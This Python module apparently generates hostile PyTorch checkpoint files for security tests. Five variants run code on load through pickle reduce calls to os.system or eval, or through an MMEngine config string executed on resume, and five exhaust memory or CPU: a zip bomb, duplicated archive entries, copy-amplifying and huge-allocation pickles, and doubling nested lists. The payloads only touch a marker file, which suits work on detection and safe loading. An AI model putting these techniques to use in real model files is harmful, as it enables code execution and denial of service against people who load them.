"""Code that makes hostile checkpoints.

Each attack leaves a mark, a file that is created, where something in it is executed.
"""

import io
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch


class Call:
    """Pickles as a call, which unpickling makes."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.function, self.arguments


def touch(mark: Path) -> Call:
    """A call of the shell that leaves the mark."""
    return Call(os.system, f"touch '{mark}'")


def evil_meta(weights: dict[str, Any], path: Path, mark: Path) -> None:
    """The call stands beside good weights, in the file format of today."""
    torch.save(dict(state_dict=weights, meta=dict(epoch=1, iter=2, note=touch(mark))), path)


def evil_legacy(weights: dict[str, Any], path: Path, mark: Path) -> None:
    """The same in torch's file format of before 2020, which is a row of pickles."""
    content = dict(state_dict=weights, meta=dict(epoch=1, iter=2, note=touch(mark)))
    torch.save(content, path, _use_new_zipfile_serialization=False)


def evil_plain_pickle(weights: dict[str, Any], path: Path, mark: Path) -> None:
    """A pickle that was never made by torch."""
    path.write_bytes(pickle.dumps(touch(mark), protocol=2))


def evil_code(weights: dict[str, Any], path: Path, mark: Path) -> None:
    """Calls Python itself, from among the weights."""
    code = Call(eval, f"open({str(mark)!r}, 'w').close()")
    torch.save(dict(state_dict={**weights, "_metadata": code}), path)


def evil_config(weights: dict[str, Any], path: Path, mark: Path) -> None:
    """Tensors and strings alone, of which MMEngine executes ``meta['config']`` on resuming."""
    code = f"import os\nos.system(\"touch '{mark}'\")\n"
    meta = dict(epoch=1, iter=2, config=code, cfg=code)
    hub = dict(log_scalars={}, runtime_info={}, resumed_keys={})
    torch.save(dict(state_dict=weights, meta=meta, message_hub=hub), path)


EXECUTING = (evil_meta, evil_legacy, evil_plain_pickle, evil_code, evil_config)


def zip_bomb(path: Path, megabytes: int = 128) -> None:
    """Torch's archive with a tensor of zeros, deflated to a thousandth of its size."""
    plain = io.BytesIO()
    torch.save(dict(state_dict=dict(weight=torch.zeros(megabytes << 18))), plain)
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))


def overlapping_entries(path: Path) -> None:
    """An archive whose directory names one megabyte a thousand times."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data/0", bytes(1 << 20))
        [entry] = archive.filelist
        archive.filelist.extend([entry] * 1000)


def _archive(path: Path, pickled: bytes) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")


def copying_pickle(path: Path, copies: int = 20_000) -> None:
    """A string of 100 kB that is named once, and turned into bytes again and again: 2 GB."""
    text = struct.pack("<I", 100_000) + b"a" * 100_000
    start = b"\x80\x02](" + b"X" + text + b"q\x01" + b"X\x06\x00\x00\x00latin1q\x02"
    once = b"c_codecs\nencode\nh\x01h\x02\x86R"
    _archive(path, start + once * copies + b"e.")


def long_bytearray(path: Path) -> None:
    """A hundred bytes that ask for an array of 8 GB."""
    _archive(path, b"\x80\x02cbuiltins\nbytearray\n\x8a\x05\x00\x00\x00\x00\x02\x85R.")


def doubling_lists(path: Path) -> None:
    """Sixty lists, each of the one before it twice: none is large, and to walk them takes years."""
    pickled = b"\x80\x02]q\x00"
    for index in range(60):
        before, own = bytes([index]), bytes([index + 1])
        pickled += b"](h" + before + b"h" + before + b"eq" + own
    _archive(path, pickled + b"ccollections\nOrderedDict\nh\x3c\x85R.")


SWELLING = (zip_bomb, overlapping_entries, copying_pickle, long_bytearray, doubling_lists)
